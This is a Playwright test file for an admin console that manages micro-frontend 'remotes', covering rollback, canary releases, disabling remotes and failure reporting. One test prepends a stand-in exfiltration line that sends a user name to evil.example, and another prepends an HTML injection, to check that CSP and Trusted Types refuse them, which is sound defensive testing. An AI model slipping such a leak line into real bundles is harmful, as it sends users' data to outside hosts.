import type { Page } from '@playwright/test'
import { remotes, telemetry } from '@matchdesk/shared/contract'
import { admin } from '../../support/api'
import { axeViolations } from '../../support/axe'
import { expect, question, toast } from '../../support/console'
import { intercept, awaitResponse } from '../../support/endpoint'
import { reason, serverError } from '../../support/faults'
import { test } from '../../support/servers/ownConsole'
import { expectToFit } from '../../support/pages'
import { nextPoll, pollRegistry } from '../../support/remotes/registry'
import { getFailureTable, seeFailure } from './failures'
import { readPointer, releaseCanary, releaseRemote } from './remoteVersion'

test.use({ users: 20, settings: { REMOTE_ADMINS: admin.email_id } })
test.describe.configure({ mode: 'default' })

const table = (page: Page) => page.getByRole('table', { name: 'Remotes' })
const remote = (page: Page, name: string) =>
  table(page)
    .getByRole('row')
    .filter({ has: page.getByRole('cell', { name, exact: true }) })
const header = (page: Page, name: string) => page.getByRole('columnheader', { name, exact: true })
const inGerman = (code: string) => code.replace('title:"Index"', 'title:"Nr."')

/** Hides the tab, which lets the console tell the server; returns the status of the answer. */
async function sendReport(page: Page) {
  const response = awaitResponse(page, telemetry.report)
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true })
    document.dispatchEvent(new Event('visibilitychange'))
  })
  return (await response).status()
}

async function confirm(page: Page, change: string, name: string, action = change) {
  await remote(page, name)
    .getByRole('button', { name: `${change} ${name}` })
    .click()
  await expect(question(page)).toContainText(`${change} ${name}?`)
  await question(page).getByRole('button', { name: action }).click()
}

async function rollBack(page: Page) {
  await confirm(page, 'Roll back', 'masterdata')
  await expect(page.getByText(/^masterdata is back at/)).toBeVisible()
}

test('says what runs here and everywhere, passes axe in light and dark, fits 360 and 1440 pixels, and is reached from the menu', async ({
  page,
  open,
}) => {
  await open('/master/religion')
  await expect(header(page, 'Index')).toBeVisible()
  expect(await sendReport(page)).toBe(200)
  await page.getByRole('button', { name: /^Account of/ }).click()
  for (const title of ['Profile', 'History', 'Portals', 'Remotes']) {
    await expect(page.getByRole('menuitem', { name: title })).toBeFocused()
    if (title !== 'Remotes') await page.keyboard.press('ArrowDown')
  }
  await page.keyboard.press('Enter')
  await expect(page.getByRole('navigation', { name: 'Breadcrumb' })).toContainText('Remotes')
  await expect(remote(page, 'masterdata')).toContainText('Running')
  await expect(remote(page, 'masterdata')).toContainText(/\d ms.*100 % run 1\.0\.0-/)
  await expect(remote(page, 'users')).toContainText(/Not opened yet.*No reports yet/)
  await expect(remote(page, 'shell')).toContainText('100 % run')
  await expect(page.getByRole('heading', { name: 'Failures' })).toBeVisible()
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    expect(await axeViolations(page)).toEqual([])
  }
  await expectToFit(page, [360, 1440])
})

test('takes a bad version back for everybody: the page shows it, and another tab is offered it', async ({ page, open, own, context }) => {
  const good = readPointer(own.releases, 'masterdata').current
  const bad = releaseRemote(own.releases, 'masterdata', '1.0.1-bad', inGerman)
  const secondPage = await context.newPage()
  await pollRegistry(secondPage)
  await open('/remotes')
  await secondPage.goto(`${own.url}/#/master/religion`)
  await expect(header(secondPage, 'Nr.')).toBeVisible()

  await expect(remote(page, 'masterdata')).toContainText(bad.version)
  await confirm(page, 'Roll back', 'masterdata')
  await expect(toast(page, `masterdata is back at ${good.version}, from ${bad.version}`)).toBeVisible()
  await expect(remote(page, 'masterdata')).not.toContainText(bad.version)
  expect(readPointer(own.releases, 'masterdata')).toMatchObject({
    current: { version: good.version },
    takenBack: expect.arrayContaining([bad.version]),
  })

  await nextPoll(secondPage)
  await expect(secondPage.getByText(`masterdata ${bad.version} was taken back: ${good.version} takes its place.`)).toBeVisible()
  await secondPage.getByRole('button', { name: 'Update' }).click()
  await expect(header(secondPage, 'Index')).toBeVisible()
})

test('tries a version out with some, and gives it to everybody', async ({ page, open, own }) => {
  const before = readPointer(own.releases, 'masterdata').current
  releaseRemote(own.releases, 'masterdata', '1.0.1-tried')
  await open('/remotes')
  await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
  await question(page).getByLabel('Version').selectOption(before.version)
  await question(page).getByLabel('Percent').fill('25')
  await question(page).getByRole('button', { name: 'Set the canary' }).click()
  await expect(remote(page, 'masterdata')).toContainText(`Canary ${before.version} for 25 %`)
  expect(readPointer(own.releases, 'masterdata').canary?.percent).toBe(25)
  await confirm(page, 'Promote', 'masterdata', 'Release to everybody')
  await expect(toast(page, `masterdata is ${before.version} for everybody, instead of 1.0.1-tried`)).toBeVisible()
  await expect(remote(page, 'masterdata')).not.toContainText('Canary')
  const { current, canary } = readPointer(own.releases, 'masterdata')
  expect([current.version, canary]).toEqual([before.version, undefined])
})

test('tries a published version alone, in a banner that stops it or releases it to everybody', async ({ page, open, own, browser }) => {
  const trial = releaseCanary(own.releases, 'masterdata', '1.0.1-alone', inGerman)
  const before = readPointer(own.releases, 'masterdata').current
  await open('/remotes')
  const banner = page.getByText(`You alone see masterdata ${trial.version}.`)
  const start = async () => {
    await remote(page, 'masterdata').getByRole('button', { name: 'Try it here masterdata' }).click()
    await question(page).getByLabel('Version').selectOption(trial.version)
    await question(page).getByRole('button', { name: 'Try it here' }).click()
  }
  await start()
  await expect(banner).toBeVisible()
  await page.goto(`${own.url}/#/master/religion`)
  await expect(header(page, 'Nr.')).toBeVisible()
  expect(await axeViolations(page)).toEqual([])
  const scripts: string[] = []
  const stranger = await browser.newPage()
  stranger.on('request', (request) => scripts.push(request.url()))
  await stranger.goto(`${own.url}/#/login`)
  await expect(stranger.getByLabel('Password')).toBeVisible()
  expect(scripts.filter((url) => /trial|1\.0\.1-alone/.test(url))).toEqual([])
  await page.getByRole('button', { name: 'Stop' }).click()
  await expect(header(page, 'Index')).toBeVisible()
  await expect(banner).toHaveCount(0)
  await page.goto(`${own.url}/#/remotes`)
  await start()
  await page.getByRole('button', { name: 'Release to everybody' }).click()
  await expect(banner).toHaveCount(0)
  expect(readPointer(own.releases, 'masterdata')).toMatchObject({ current: { version: trial.version }, previous: { version: before.version } })
  await rollBack(page)
})

test('switches a remote off and on, and its pages say so', async ({ page, open }) => {
  const bankDetails = page.getByRole('link', { name: 'Show Bank Details' })
  await open('/remotes')
  await expect(bankDetails).toBeVisible()
  await confirm(page, 'Disable', 'payments')
  await expect(remote(page, 'payments')).toContainText('Disabled')
  await expect(bankDetails).toHaveCount(0)
  await page.goto('/#/payment/details')
  await expect(page.getByRole('main')).toContainText('Bank Details is switched off')
  await page.goto('/#/remotes')
  await confirm(page, 'Enable', 'payments')
  await expect(remote(page, 'payments')).toContainText('Not opened yet')
  await expect(bankDetails).toBeVisible()
})

test.describe('while something fails', () => {
  test.use({ allowed: [/.*/] })

  test('a canary that decides by itself waits, and is taken back when a person had a failure three times', async ({ page, open, own }) => {
    const good = readPointer(own.releases, 'masterdata').current
    const bad = releaseCanary(own.releases, 'masterdata', '1.0.1-wrong', (code) => code.replace('title:"Index"', 'title:null.name'))
    const canary = page.getByRole('table', { name: 'Canaries' }).getByRole('row').filter({ hasText: bad.version })
    const seeCanary = (text: RegExp) =>
      expect(async () => {
        await page.getByRole('button', { name: 'Refresh' }).click()
        await expect(canary).toContainText(text, { timeout: 1000 })
      }).toPass()
    await open('/remotes')
    await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
    await question(page).getByLabel('Percent').fill('100')
    await question(page)
      .getByLabel(/^Decide by itself/)
      .check()
    await question(page).getByLabel('Hours', { exact: true }).fill('1')
    await question(page).getByRole('button', { name: 'Set the canary' }).click()
    await seeCanary(/^Waits.*0 of 3 administrators used it, in 0 of 1 hour/)
    for (let times = 0; times < 3; times++) {
      const response = awaitResponse(page, telemetry.report)
      await page.goto(`${own.url}/?times=${times}#/master/religion`)
      await expect(header(page, 'Index')).toBeVisible()
      expect((await response).status()).toBe(200)
    }
    await page.goto('/#/remotes')
    await seeCanary(/^Taken back.*one administrator had 3 times a failure that the version before does not have \(TypeError at /)
    expect(readPointer(own.releases, 'masterdata')).toMatchObject({
      current: { version: good.version },
      takenBack: expect.arrayContaining([bad.version]),
    })
  })

  test('a change that came too late keeps the question with the reason, and is done after', async ({ page, open, own }) => {
    await open('/remotes')
    await expect(remote(page, 'masterdata')).toContainText('Not opened yet')
    releaseRemote(own.releases, 'masterdata', '1.0.2-next')
    await confirm(page, 'Disable', 'masterdata')
    await expect(question(page)).toContainText('Somebody else has changed masterdata meanwhile: it is 1.0.2-next now')
    await expect(question(page)).toContainText('masterdata is 1.0.2-next now')
    await page.keyboard.press('Escape')
    await rollBack(page)
  })

  test('the page of remotes names the remote whose file the policy refuses', async ({ page, open, own }) => {
    const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
    releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
    await open('/payment/details')
    await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
    await seeFailure(
      page,
      'Payments team',
      /The policy of the page refused it\. \(connect-src\).*https:\/\/evil\.example\/collect.*payments 1\.0\.1-leaking/,
    )
    await expect(getFailureTable(page, 'Payments team')).not.toContainText('ayesha')
  })

  test('the page of remotes names the remote whose text the browser refuses as HTML', async ({ page, open, own }) => {
    const careless = 'try{document.body.insertAdjacentHTML("beforeend","<img id=written>")}catch{};'
    releaseRemote(own.releases, 'payments', '1.0.1-careless', (code) => careless + code)
    await open('/payment/details')
    await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
    await expect(page.locator('#written')).toHaveCount(0)
    await seeFailure(page, 'Payments team', /\(require-trusted-types-for\).*payments 1\.0\.1-careless/)
  })

  test('the page says why, shows what it knows itself, and Retry brings the rest', async ({ page, open }) => {
    const restore = await intercept(page, remotes.status, serverError)
    await open('/remotes')
    await expect(page.getByRole('alert')).toContainText(reason)
    await expect(remote(page, 'users')).toContainText('Not opened yet')
    await expect(table(page).getByRole('button')).toHaveCount(0)
    await restore()
    await page.getByRole('button', { name: 'Retry' }).click()
    await expect(page.getByRole('heading', { name: 'Failures' })).toBeVisible()
    await expect(page.getByRole('alert')).toHaveCount(0)
  })
})
